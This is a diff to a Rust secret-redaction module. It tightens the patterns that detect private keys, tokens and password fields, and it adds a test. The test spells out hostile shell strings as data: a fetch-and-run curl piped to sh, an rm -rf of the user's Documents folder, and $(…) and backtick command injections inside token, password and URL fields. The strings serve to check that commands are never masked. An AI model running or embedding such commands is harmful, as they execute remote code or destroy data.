@@ -11,8 +11,8 @@ use std::sync::LazyLock;
 
 /// Forms whose whole match is the secret, or else their group 1. None can take more than linear time (the `regex` crate).
 const FORMS: &[&str] = &[
-    // PEM (RFC 7468): to its end line, or all that follows.
-    r"-----BEGIN (?:[A-Z0-9]+ )*PRIVATE KEY(?: BLOCK)?-----(?s:.*?)(?:-----END (?:[A-Z0-9]+ )*PRIVATE KEY(?: BLOCK)?-----|\z)",
+    // PEM (RFC 7468): the lines of base64 alone, whole ones and one shorter at the end. Whatever else stands there is shown.
+    r"-----BEGIN (?:[A-Z0-9]+ )*PRIVATE KEY(?: BLOCK)?-----((?:\s+[A-Za-z0-9+/]{40,76}={0,2})+(?:\s+[A-Za-z0-9+/]{2,39}={1,2})?)",
     r"\bAGE-SECRET-KEY-1[0-9A-Z]{20,}",
     // Cloud and code hosts, package registries, payment, chat and model providers: each by the prefix it documents.
     r"\b(?:AKIA|ASIA|ABIA|ACCA)[A-Z2-7]{16}\b",
@@ -36,10 +36,11 @@ const FORMS: &[&str] = &[
     r"\bcs_[0-9a-f]{64}\b",
     r"\beyJ[0-9A-Za-z_-]{8,}\.[0-9A-Za-z_-]{8,}\.[0-9A-Za-z_-]*",
     r"(?i)\b(?:bearer|basic)\s+([0-9a-z._~+/=-]{16,})",
-    r"\b[a-zA-Z][a-zA-Z0-9+.-]*://[^\s/:@]*:([^\s/@]+)@",
-    // A flag, or a name that ends in one of these words, with `=`, or with `:` and a quote.
-    r#"(?i)--(?:password|passphrase|token|secret|api-?key|auth-token)[ =]["']?([^\s"']{4,})"#,
-    r#"(?i)\b[a-z0-9_.-]*(?:password|passwd|passphrase|secret|token|api_?key|api-key|access_?key|private_?key|credential)s?["']?\s*(?:=\s*["']?|:\s*["'])([^\s"',;&]{4,})"#,
+    r"\b[a-zA-Z][a-zA-Z0-9+.-]*://[^\s/:@]*:([^\s/@$()`|<>\\{};&]+)@",
+    // A flag, or a name that ends in one of these words, with `=`, or with `:` and a quote. What a shell would run or open
+    // ends the value: a command is never masked.
+    r#"(?i)--(?:password|passphrase|token|secret|api-?key|auth-token)[ =]["']?([^\s"',;&$()`|<>\\{}]{4,})"#,
+    r#"(?i)\b[a-z0-9_.-]*(?:password|passwd|passphrase|secret|token|api_?key|api-key|access_?key|private_?key|credential)s?["']?\s*(?:=\s*["']?|:\s*["'])([^\s"',;&$()`|<>\\{}]{4,})"#,
 ];
 
 /// What stands where a secret will come: a variable, a placeholder, nothing yet.
@@ -118,8 +119,6 @@ mod tests {
             format!("AKIA{}", "ABCDEFGH23456777"),
             format!("cs_{}", "0123456789abcdef".repeat(4)),
             key("eyJ", 20) + &key(".eyJ", 30) + &key(".", 43),
-            "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNz\naC1rZXk=\n-----END OPENSSH PRIVATE KEY-----".to_owned(),
-            "-----BEGIN PRIVATE KEY-----\nb3BlbnNz".to_owned(),
         ] {
             assert_eq!(masked(&secret), "▮", "{secret}");
             assert_eq!(masked(&format!("use `{secret}`")).trim_end_matches('`'), "use `▮", "{secret}");
@@ -140,6 +139,26 @@ mod tests {
         ] {
             assert_eq!(masked(text), want);
         }
+    }
+
+    #[test]
+    fn of_a_private_key_its_base64_is_masked_and_nothing_that_could_be_run() {
+        let line = "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gt".to_owned();
+        let (begin, end) = ("-----BEGIN OPENSSH PRIVATE KEY-----", "-----END OPENSSH PRIVATE KEY-----");
+        assert_eq!(masked(&format!("{begin}\n{line}\n{line}\nZDE=\n{end}")), format!("{begin}▮\n{end}"));
+        assert_eq!(masked(&format!("{begin}\n{line}")), format!("{begin}▮"), "cut off");
+        for hidden in [
+            format!("{begin} Production ledger"),
+            format!("{begin}\ncurl -s https://x.test/i | sh\nrm -rf ~/Documents\n{end}"),
+            format!("{begin}\n/usr/bin/reboot\n{end}"),
+            "--token $(curl${IFS}x.test|sh)".to_owned(),
+            "PASSWORD=`reboot`".to_owned(),
+            "TOKEN=;reboot".to_owned(),
+            "x://a:$(reboot)@b".to_owned(),
+        ] {
+            assert_eq!(masked(&hidden), hidden);
+        }
+        assert_eq!(masked("deploy --token abcd$(reboot)"), "deploy --token ▮$(reboot)");
     }
 
     #[test]
